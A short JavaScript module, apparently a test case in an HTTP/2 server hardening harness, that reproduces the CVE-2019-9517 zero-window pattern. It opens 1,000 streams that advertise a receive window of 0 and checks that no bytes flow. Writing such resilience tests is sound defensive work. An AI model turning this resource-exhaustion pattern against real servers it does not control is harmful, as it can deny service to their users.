// CVE-2019-9517 in small: 1,000 streams ask for 4 MB each and allow not a byte.
import { setTimeout as sleep } from "node:timers/promises";
import { Setting } from "../../raw/frames.mjs";

export const name = "zero-window readers";

const CONNECTIONS = 5;
const STREAMS = 200;

export async function attack(target) {
  const connections = await target.openMany(CONNECTIONS, { settings: [[Setting.INITIAL_WINDOW_SIZE, 0]] });
  for (const connection of connections) {
    await connection.until(() => connection.settingsSeen, 2000);
    for (let i = 0; i < STREAMS; i++) await connection.pour(target.request("stream", 2 * i + 1));
  }
  await sleep(2000);
  let bytes = 0;
  for (const connection of connections) for (const stream of connection.streams.values()) bytes += stream.bytes;
  if (bytes > 0) throw new Error(`${bytes} bytes came through windows of 0`);
  return `${CONNECTIONS * STREAMS} streams, none got a byte`;
}
